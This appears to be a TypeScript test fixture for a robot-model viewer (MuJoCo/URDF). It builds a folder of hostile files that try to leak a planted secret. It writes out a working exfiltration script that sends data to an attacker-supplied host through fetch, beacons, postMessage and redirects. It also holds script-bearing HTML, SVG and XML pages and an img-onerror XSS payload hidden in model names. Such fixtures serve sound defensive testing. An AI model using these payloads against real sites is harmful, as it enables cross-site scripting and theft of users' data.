import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'

/** What attackers are after. */
export const SECRET = 'SECRET-7f3a91'

const PICTURE =
  'iVBORw0KGgoAAAANSUhEUgAAAAMAAAACCAYAAACddGYaAAAAFElEQVR4nGP4z8DwHwyBNBgzwDgAkR0H+VR4ZCgAAAAASUVORK5CYII='

/** Files of the folder that a browser could take for a page with a script. */
export const PAGES = ['page.html', 'page.htm', 'page.xhtml', 'page.svg', 'page.xml', 'page.urdf'] as const

/**
 * A folder of a model with a secret, and files that try to send it away.
 * @param sink address of the attacker
 */
export function writeHostileFolder(folder: string, sink: string): void {
  const files: Readonly<Record<string, string | Buffer>> = {
    'secret.xml': `<mujoco model="${SECRET}"/>`,
    'robot.xml': hostileModel(sink),
    'picture.png': Buffer.from(PICTURE, 'base64'),
    'data.js': `globalThis.stolen = '${SECRET}'; if (globalThis.postMessage && !globalThis.document) postMessage(stolen)`,
    'module.js': `globalThis.stolenModule = '${SECRET}'; export {}`,
    'mesh.stl': 'solid mesh',
    'style.css': `body { --stolen: ${SECRET} }`,
    'list.json': `{ "stolen": "${SECRET}" }`,
    'thief.js': thief(sink),
    'page.html': `<!doctype html><body>${scripts(sink)}`,
    'page.htm': `<!doctype html><body>${scripts(sink)}`,
    'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><body>${scripts(sink)}</body></html>`,
    'page.svg': `<svg xmlns="http://www.w3.org/2000/svg">${scripts(sink)}</svg>`,
    'page.xml': mixed(sink),
    'page.urdf': mixed(sink),
  }
  mkdirSync(folder, { recursive: true })
  for (const [name, content] of Object.entries(files)) writeFileSync(join(folder, name), content)
}

/** A model with scripts, which browsers run where they show XML. */
function mixed(sink: string): string {
  const inner = scripts(sink).replaceAll(/(<\/?)script/g, '$1h:script')
  return `<mujoco xmlns:h="http://www.w3.org/1999/xhtml">${inner}</mujoco>`
}

/** The thief as the text of a script, and as a file: a page may allow one and not the other. */
function scripts(sink: string): string {
  return `<script src="thief.js" href="thief.js"></script><script>//<![CDATA[\n${thief(sink)}\n//]]></script>`
}

/** A script that reads the secret beside it and sends it away, in every way there is. */
function thief(sink: string): string {
  return `(async () => {
    const send = (text) => {
      const url = '${sink}' + location.port + '/stolen?' + encodeURIComponent(text)
      fetch(url, { method: 'POST', mode: 'no-cors', body: text }).catch(() => {})
      new Image().src = url
      navigator.sendBeacon(url, text)
      for (const other of [window.opener, window.parent !== window && window.parent])
        if (other) other.postMessage(text, '*')
    }
    send('run by a script')
    send(await (await fetch('/model/secret.xml')).text())
    location.href = '${sink}' + location.port + '/stolen?left'
  })()`
}

/** A valid model whose names are HTML, and whose pictures are elsewhere. */
function hostileModel(sink: string): string {
  const name = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')
  const evil = name(`<img src="${sink}stolen?name" onerror="fetch('${sink}stolen?name')">`)
  return `<mujoco model="hostile ${evil}">
    <asset><texture name="t${evil}" type="2d" builtin="flat" width="8" height="8"/></asset>
    <worldbody><body name="body ${evil}"><joint name="joint ${evil}"/><geom name="geom ${evil}" size="0.1"/></body></worldbody>
    <keyframe><key name="key ${evil}"/></keyframe>
  </mujoco>`
}
